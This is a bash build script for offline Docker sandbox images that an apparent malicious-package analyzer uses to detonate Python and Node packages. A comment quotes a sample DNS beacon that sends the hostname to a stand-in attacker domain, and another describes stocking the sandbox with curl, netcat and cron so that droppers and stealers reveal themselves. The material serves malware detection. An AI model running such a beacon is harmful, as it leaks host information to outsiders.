#!/usr/bin/env bash
# Build the sandbox images offline from Debian packages: debootstrap a minimal
# bookworm, `docker import` it, then `docker build` (with no network) the Python and
# Node images on top. Tags carry a hash of this folder, which the analyzer checks.
#
#   build.sh TAG_SUFFIX [python|node|all]
set -euo pipefail

HERE=$(cd "$(dirname "$0")" && pwd)
STATE_DIR=${PKGSANDBOX_STATE_DIR:-/var/lib/pkgsandbox}
export DOCKER_HOST=${PKGSANDBOX_DOCKER_HOST:-unix://$STATE_DIR/run/docker.sock}
TAG=${1:?usage: build.sh TAG [python|node|all]}
WHICH=${2:-all}
CACHE="$STATE_DIR/build-cache"

# shellcheck source=sandbox_images/lib.sh
source "$HERE/lib.sh" images

# rootfs_image NAME "DEBOOTSTRAP_PACKAGES" "APT_PACKAGES": a minbase bookworm imported as
# pkgsandbox-rootfs-NAME. Packages with deep dependency trees (npm) go through apt in
# a chroot, since debootstrap's own resolver cannot configure them.
rootfs_image() {
    local name=$1 includes=$2 apt_packages=$3
    local image digest
    digest=$(echo "$includes $apt_packages" | sha256sum | cut -c1-12)
    image="pkgsandbox-rootfs-$name:$digest"
    if docker image inspect "$image" >/dev/null 2>&1; then
        printf '%s' "$image"; return 0
    fi
    local root="$CACHE/rootfs-$name" log="$CACHE/debootstrap-$name.log"
    rm -rf "$root"; mkdir -p "$root" "$CACHE/debs"
    local mirror
    mirror=$(debian_mirror)
    [ -n "$mirror" ] || die "no Debian mirror found in /etc/apt/sources.list*"
    say "debootstrap bookworm ($includes $apt_packages), a few minutes"
    debootstrap --variant=minbase --cache-dir="$CACHE/debs" --include="$includes" \
        bookworm "$root" "$mirror" >"$log" 2>&1 \
        || { tail -20 "$log" >&2; return 1; }
    if [ -n "$apt_packages" ]; then
        mount -t proc proc "$root/proc"
        # shellcheck disable=SC2086
        { chroot "$root" apt-get update -qq && DEBIAN_FRONTEND=noninteractive \
              chroot "$root" apt-get install -y -qq --no-install-recommends $apt_packages; } \
            >>"$log" 2>&1 || { umount "$root/proc"; tail -20 "$log" >&2; return 1; }
        umount "$root/proc"
    fi
    rm -rf "$root"/var/cache/apt/archives/*.deb "$root"/var/lib/apt/lists/*
    tar -C "$root" -c . | docker import - "$image" >/dev/null || return 1
    rm -rf "$root"
    printf '%s' "$image"
}

# Wheels baked into the images: sdist build back-ends, so sdists build offline, and
# the tools the in-sandbox network simulator uses. Downloaded as wheels only.
download_wheels() {
    local name=$1 list=$2
    local dest="$HERE/.build/wheels-$name"
    mkdir -p "$dest"
    if [ ! -f "$dest/.complete" ] || [ "$list" -nt "$dest/.complete" ]; then
        say "downloading $name wheels"
        python3 -m pip download --isolated --quiet --disable-pip-version-check --only-binary=:all: \
            --python-version 3.11 --implementation cp --platform manylinux2014_x86_64 \
            --dest "$dest" -r "$list" || die "pip download of $name wheels failed"
        touch "$dest/.complete"
    fi
}

build() {
    local kind=$1 base=$2
    local ctx="$HERE/.build/$kind"
    rm -rf "$ctx"; mkdir -p "$ctx"
    # -L: driver/protocol.py links to analyzer/protocol.py, which the image must hold itself.
    cp -rL "$HERE/driver" "$ctx/driver"
    mkdir -p "$ctx/wheels"
    if [ "$kind" = python ]; then cp -r "$HERE/.build/wheels-build/." "$ctx/wheels/"; fi
    cp -r "$HERE/.build/wheels-netsim" "$ctx/netsim-wheels"
    cp "$HERE/$kind/Dockerfile" "$ctx/Dockerfile"
    say "building pkgsandbox-$kind:$TAG"
    docker build --quiet --network none --build-arg "BASE=$base" -t "pkgsandbox-$kind:$TAG" \
        "$ctx" >"$CACHE/build-$kind.log" 2>&1 \
        || { tail -20 "$CACHE/build-$kind.log" >&2; die "docker build of pkgsandbox-$kind failed"; }
    rm -rf "$ctx"
}

download_wheels build "$HERE/python/wheels.txt"
download_wheels netsim "$HERE/netsim-wheels.txt"
# The tools a developer's machine has, so droppers, persistence and clipboard stealers
# find them and act (a missing curl or crontab hides what the package would do).
DESK_TOOLS=curl,wget,git,procps,cron,xclip,xsel,netcat-openbsd
# Name lookups and `python`: a beacon like `nslookup $(hostname).evil.example` or a
# payload that runs `python -c ...` must not die on "not found" before it shows itself.
# Their dependency trees (bind9's libraries) go through apt in the chroot.
NET_TOOLS="bind9-dnsutils bind9-host iputils-ping python-is-python3"
BASE_PACKAGES=python3,python3-pip,python3-venv,ca-certificates,$DESK_TOOLS
if [ "$WHICH" = python ] || [ "$WHICH" = all ]; then
    base=$(rootfs_image python "$BASE_PACKAGES" "$NET_TOOLS") || die "building the Python root filesystem failed"
    build python "$base"
fi
if [ "$WHICH" = node ] || [ "$WHICH" = all ]; then
    base=$(rootfs_image node "$BASE_PACKAGES" "$NET_TOOLS nodejs npm") || die "building the Node root filesystem failed"
    build node "$base"
fi
say "done"
